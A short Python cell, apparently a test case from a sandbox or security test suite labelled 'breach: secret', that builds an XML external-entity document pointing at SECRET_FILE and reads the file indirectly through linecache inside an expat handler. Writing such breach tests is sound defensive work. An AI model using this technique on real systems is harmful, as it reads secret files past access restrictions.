# expat calls for an external entity, and the cell opens it through the library.
# breach: secret
import xml.parsers.expat, linecache
parser = xml.parsers.expat.ParserCreate()
found = []
def entity(context, base, system, public):
    found.append(linecache.getlines(system))
    return 1
parser.ExternalEntityRefHandler = entity
parser.Parse(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{SECRET_FILE}">]><a>&e;</a>', True)
found
